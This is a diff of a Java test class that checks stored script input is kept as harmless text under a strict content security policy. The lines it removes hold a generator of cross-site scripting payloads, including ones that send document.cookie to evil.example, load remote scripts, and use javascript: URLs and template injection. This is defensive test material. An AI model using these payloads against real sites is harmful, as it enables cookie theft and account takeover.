@@ -5,8 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.wanping.account.Role;
 import io.wanping.testing.Clerk;
 import io.wanping.testing.Clerks;
+import io.wanping.testing.HostileScripts;
 import io.wanping.testing.TestLedger;
-import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
@@ -32,7 +32,7 @@ abstract class StoredScriptsContract {
 
     @Test
     void areStoredAndAnsweredAsText() {
-        List<String> payloads = payloads();
+        List<String> payloads = HostileScripts.list();
         assertThat(payloads).hasSizeGreaterThanOrEqualTo(300).doesNotHaveDuplicates();
         Clerk editor = clerks.editor();
         Map<String, String> byCode = new HashMap<>();
@@ -95,7 +95,7 @@ abstract class StoredScriptsContract {
     void areHarmlessInNamesOfPeopleInRefusalsAndInTheRecord() {
         Clerk admin = clerks.of(Role.SYSTEM_ADMIN);
         Clerk editor = clerks.editor();
-        List<String> payloads = payloads();
+        List<String> payloads = HostileScripts.list();
         for (int i = 0; i < payloads.size(); i += 6) {
             String payload = payloads.get(i);
             String name = payload.length() <= 60 ? payload : payload.substring(0, 60);
@@ -143,59 +143,5 @@ abstract class StoredScriptsContract {
                 .contains("script-src 'self'")
                 .doesNotContain("unsafe");
         assertThat(answer.json().isContainer()).isTrue();
-    }
-
-    /** Ways to call, in ways to get there. */
-    private static List<String> payloads() {
-        List<String> calls = List.of(
-                "alert(1)",
-                "alert(document.cookie)",
-                "fetch('//evil.example/'+document.cookie)",
-                "eval(atob('YWxlcnQoMSk='))",
-                "import('//evil.example/x.js')",
-                "top.location='//evil.example'",
-                "window['al'+'ert'](1)",
-                "confirm`1`",
-                "\\u0061lert(1)",
-                "throw onerror=alert,1");
-        List<String> ways = List.of(
-                "<script>%s</script>",
-                "<SCRIPT SRC=//evil.example/x.js>%s</SCRIPT>",
-                "<img src=x onerror=%s>",
-                "<img src=x onerror=\"%s\">",
-                "<svg onload=%s>",
-                "<svg/onload=%s//",
-                "<svg><animate onbegin=%s attributeName=x dur=1s>",
-                "<body onload=%s>",
-                "<iframe src=\"javascript:%s\">",
-                "<iframe srcdoc=\"<script>%s</script>\">",
-                "<a href=\"javascript:%s\">点</a>",
-                "<a href=\"jAvAsCrIpT:%s\">x</a>",
-                "<math><mtext></form><form><mglyph><style></math><img src onerror=%s>",
-                "\"><script>%s</script>",
-                "'><img src=x onerror=%s>",
-                "</textarea><script>%s</script>",
-                "</title><script>%s</script>",
-                "</script><script>%s</script>",
-                "<!--><img src=x onerror=%s>-->",
-                "<![CDATA[<script>%s</script>]]>",
-                "{{constructor.constructor('%s')()}}",
-                "${%s}",
-                "#{%s}",
-                "<%%= %s %%>",
-                "javascript:%s",
-                "data:text/html,<script>%s</script>",
-                "=HYPERLINK(\"javascript:%s\")",
-                "';%s;//",
-                "\\\"};%s;//",
-                "＜script＞%s＜/script＞",
-                "<details open ontoggle=%s>");
-        List<String> payloads = new ArrayList<>();
-        for (String way : ways) {
-            for (String call : calls) {
-                payloads.add(String.format(way.contains("%%") ? way : way.replace("%s", "%1$s"), call));
-            }
-        }
-        return payloads;
     }
 }
